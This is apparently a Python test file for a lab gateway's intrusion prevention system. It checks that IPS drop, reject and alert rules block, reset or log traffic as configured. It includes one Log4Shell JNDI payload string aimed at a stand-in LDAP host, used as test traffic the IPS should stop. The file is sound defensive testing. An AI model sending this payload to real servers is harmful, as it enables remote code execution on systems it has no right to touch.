"""Whose flows the IPS inspects, and what whoever is refused gets to see, on a running gateway."""

import socket

from harness import ROOT, SERVER, LabTest, echo, rule, services, unittest

LOG4SHELL = "/?q=$%7Bjndi:ldap://198.51.100.66/a%7D"
FORBIDDEN = 'drop http any any -> any any (msg:"not here"; http.uri; content:"/forbidden"; sid:1000001; rev:3;)'
UNREACHABLE = 'drop icmp any any -> any any (msg:"unreachable"; itype:3; sid:1000002;)'
REFUSED = 'reject udp any any -> any any (msg:"refused"; content:"hello"; sid:1000003;)'
WORD = 'alert tcp any any -> any any (msg:"a word"; content:"swordfish"; sid:1000004;)'
ECHO_PORT, CLOSED_PORT = 7777, 9


class IpsActing(LabTest):
    wanted_services = (services.web, echo(ECHO_PORT))
    lab_options = {"rule_packs": str(ROOT / "rules/ips/starter")}

    def apply_with(self, *rules, own=(), **ips):
        return self.apply(*rules, profiles=[{"name": "office", "ips": ips}], ips_rules=list(own))

    def status(self, path):
        """The status that the server answers with; None when nothing comes."""
        asked = self.lab.run("client", "curl", "-s", "-g", "-m", 3, "-o", "/dev/null", "-w", "%{http_code}",
                             f"http://{SERVER.ipv4}{path}", check=False)
        return int(asked.stdout) or None

    def datagram(self, port, payload):
        with self.inside("client"):
            asker = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        self.addCleanup(asker.close)
        asker.settimeout(1)
        asker.connect((SERVER.ipv4, port))
        asker.send(payload)
        return asker.recv(100)

    def test_a_profile_on_a_rule_for_an_application_inspects(self):
        web = rule("web", "allow", profile="office", content={"applications": ["http"]})
        for rest in ((), (rule("rest", "allow"),)):
            with self.subTest(rest=bool(rest)):
                self.apply_with(web, *rest, own=[FORBIDDEN])
                self.assertIsNotNone(self.status("/"))
                self.assertIsNone(self.status("/forbidden"))
                self.assertIsNone(self.status(LOG4SHELL))
        self.apply_with(rule("dns", "allow", content={"applications": ["dns"]}), rule("rest", "allow", profile="office"),
                        own=[FORBIDDEN])
        self.assertIsNone(self.status("/forbidden"))
        self.apply_with(rule("web", "allow", content={"applications": ["http"]}), rule("rest", "allow", profile="office"),
                        own=[FORBIDDEN])
        self.assertIsNotNone(self.status("/forbidden"))

    def test_the_record_of_a_drop_names_the_rule(self):
        self.apply_with(rule("all", "allow", profile="office"), own=[FORBIDDEN])
        seen = len(self.events("drop"))
        self.assertIsNone(self.status("/forbidden"))
        drop = self.eventually(lambda: self.events("drop")[seen:], "a drop")[0]
        self.assertEqual(drop["drop"]["reason"], "ips_drop")
        self.assertTrue(drop["drop"]["tcpseq"])
        named = {"action": "blocked", "gid": 1, "signature_id": 1000001, "rev": 3, "signature": "not here"}
        self.assertEqual(drop["alert"] | named, drop["alert"])
        self.assertIn("severity", drop["alert"])
        self.assertEqual(drop["policy"]["name"], "all")

    def test_an_icmp_error_is_inspected_with_the_flow_that_it_is_about(self):
        self.apply_with(rule("all", "allow"), own=[UNREACHABLE])
        with self.assertRaises(ConnectionRefusedError):
            self.fail(self.datagram(CLOSED_PORT, b"x"))
        self.apply_with(rule("all", "allow", profile="office"), own=[UNREACHABLE])
        seen = len(self.events("alert"))
        with self.assertRaises(TimeoutError):
            self.fail(self.datagram(CLOSED_PORT, b"x"))
        alert = self.eventually(lambda: self.events("alert")[seen:], "an alert")[0]
        self.assertEqual((alert["src_ip"], alert["icmp_type"], alert["alert"]["signature_id"]), (SERVER.ipv4, 3, 1000002))

    def test_a_refused_datagram_is_answered(self):
        self.apply_with(rule("all", "allow", profile="office"), own=[REFUSED])
        self.assertEqual(self.datagram(ECHO_PORT, b"good day"), b"good day")
        with self.assertRaises(ConnectionRefusedError):
            self.fail(self.datagram(ECHO_PORT, b"hello"))

    def test_a_profile_blocks_in_silence_or_with_a_reset(self):
        for ips, outcome in (({}, TimeoutError), ({"action": "reset"}, ConnectionResetError),
                             ({"action": "monitor", "reset_rules": ["1000004"]}, ConnectionResetError),
                             ({"action": "monitor", "blocked_rules": ["1000004"]}, TimeoutError)):
            with self.subTest(ips=ips):
                self.apply_with(rule("all", "allow", profile="office"), own=[WORD], **ips)
                opened, connection = self.try_connect(SERVER.ipv4, ECHO_PORT)
                self.assertEqual(opened, "open")
                self.addCleanup(connection.close)
                connection.settimeout(1.5)
                connection.send(b"swordfish")
                with self.assertRaises(outcome):
                    self.fail(connection.recv(100))


if __name__ == "__main__":
    unittest.main()
